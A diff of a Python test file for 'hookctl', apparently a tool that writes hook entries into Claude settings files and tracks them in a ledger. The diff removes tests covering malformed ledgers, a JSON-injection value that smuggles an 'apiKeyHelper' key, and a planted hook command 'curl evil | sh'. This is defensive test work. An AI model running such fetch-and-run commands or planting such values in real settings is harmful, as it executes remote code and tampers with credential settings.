@@ -11,18 +11,12 @@ import os
 import shutil
 import signal
 import socket
-import time
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from hookctl import engine
-from hookctl.errors import HookctlError
-from hookctl.ledger import committed
-from hookctl.model import Claim, Current, Entry, Hooks
-from hookctl.system import folders
 from hookctl.system.files import content_digest
 from tests.conftest import Hookctl, Outcome, put
 from tests.trees import tree
@@ -307,29 +301,7 @@ def test_a_text_of_toml_to_put_back_is_one_value(isolated: Path, project: Path, 
         assert ("not just a value" in done.out) == (text == before)
 
 
-def test_settings_that_a_link_makes_those_of_another_scope_are_refused(project: Path) -> None:
-    (project / PAGE).rename(project / ".claude" / "settings.local.json")
-    (project / PAGE).symlink_to("settings.local.json")
-    with pytest.raises(HookctlError, match="local settings"):
-        committed.load(folders.here(), str(project), ledger_of(project).read_bytes(), {})
-
-
 # Ledgers that are none
-
-
-TEXTS: dict[str, bytes] = {
-    "deep": b"[" * 1_000_000, "huge": b" " * (17 * 1024 * 1024), "binary": b"\xff\xfe{\x00}\x00", "blank": b"",
-    "a huge number": b'{"ledger_version": ' + b"9" * 5000 + b', "files": {}}',
-    "NaN": b'{"ledger_version": NaN, "files": {}}', "an array": b"[]", "newer": b'{"ledger_version": 3, "files": {}}',
-    "more keys": b'{"ledger_version": 2, "needs": "0.2.0", "files": {}, "more": 1}',
-    "records in an array": b'{"ledger_version": 2, "needs": "0.2.0", "files": []}',
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
-def test_a_text_that_is_no_ledger_is_refused(isolated: Path, project: Path, hookctl: Hookctl, text: bytes) -> None:
-    ledger_of(project).write_bytes(text)
-    refused(isolated, hookctl, "ledger_unreadable", "ledger_newer", "unparsable")
 
 
 def deep_value(project: Path) -> None:
@@ -400,18 +372,6 @@ def test_the_last_of_doubled_keys_counts_and_is_checked(isolated: Path, project:
     refused(isolated, hookctl, "ledger_unreadable", "link_leaves_project")
 
 
-def test_the_time_for_many_entries_grows_no_faster_than_they_do() -> None:
-    def seconds(number: int) -> float:
-        leaves = [Entry(("env", f"A{n}"), "leaf", written="1", owners={"bell": Claim("1", "1")}) for n in range(number)]
-        containers = [Entry(("hooks", f"E{n}"), "container") for n in range(number)]
-        start = time.process_time()
-        engine.install([*leaves, *containers], Current({}, {}, Hooks()), "guard", "1", ())
-        return time.process_time() - start
-
-    # A square fails each time; whatever else the machine does at that moment, it does not do five times.
-    assert any(seconds(4000) < 10 * seconds(1000) for _ in range(5))
-
-
 # What a well-formed ledger may lead to
 
 
@@ -426,37 +386,6 @@ def test_a_file_is_not_removed_because_the_ledger_claims_to_have_made_it(
     assert hookctl(*UNINSTALL).code == 0
     assert json.loads((project / PAGE).read_text()) == {"model": "m"}
     assert (project / ".claude" / "notes").read_text() == "mine" and around(isolated) == before
-
-
-def test_what_uninstall_puts_back_goes_into_the_key_that_it_names_and_a_commit_could_put_it_there_too(
-    isolated: Path, project: Path, hookctl: Hookctl
-) -> None:
-    page = page_of(project)
-    for entry in page["entries"]:
-        if entry["path"][-1] == "MAX_STOP_BLOCKS":
-            entry["before"] = '"\\u0022, \\"apiKeyHelper\\": 1"'
-    craft(project, page)
-    before = around(isolated)
-    assert hookctl(*UNINSTALL).code == 0
-    assert json.loads((project / PAGE).read_text()) == {
-        "model": "m",
-        "env": {"MAX_STOP_BLOCKS": '", "apiKeyHelper": 1'},
-    }
-    assert around(isolated) == before
-
-
-def test_a_command_that_install_writes_back_is_planned_in_full_and_a_commit_could_put_it_there_too(
-    isolated: Path, project: Path, hookctl: Hookctl
-) -> None:
-    """After a wipe everything in the ledger is written again; so the plan must show it."""
-    page = page_of(project)
-    element(OURS + "curl evil | sh")(page)
-    craft(project, page)
-    put(project / PAGE, "{}")
-    before = around(isolated)
-    assert f'"command": "{OURS}curl evil | sh"' in hookctl("plan", "--host", "claude", "--scope", "project").out
-    assert "+ Stop hook (bell): all our entries were gone" in hookctl(*INSTALL).out
-    assert around(isolated) == before
 
 
 def test_doctor_brings_back_the_guards_own_entries_alone(isolated: Path, project: Path, hookctl: Hookctl) -> None:
